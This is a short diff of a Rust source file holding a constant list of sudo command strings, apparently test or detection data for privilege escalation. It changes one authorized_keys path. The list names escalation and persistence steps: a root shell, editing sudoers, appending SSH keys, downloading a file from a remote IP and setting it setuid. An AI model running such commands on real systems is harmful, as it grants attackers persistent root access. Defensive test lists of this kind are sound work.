@@ -176,7 +176,7 @@ pub(super) const COMMANDS: [&str; 12] = [
     "sudo /usr/sbin/useradd -m support2",
     "sudo /usr/bin/bash",
     "sudo /usr/bin/vi /etc/sudoers",
-    "sudo /usr/bin/tee -a /root/.ssh/authorized_keys",
+    "sudo /usr/bin/tee -a /home/deploy/.ssh/authorized_keys",
     "sudo /usr/bin/crontab -e",
     "sudo /usr/bin/curl -o /tmp/x http://192.0.2.9/x",
     "sudo /usr/bin/chmod 4755 /tmp/x",
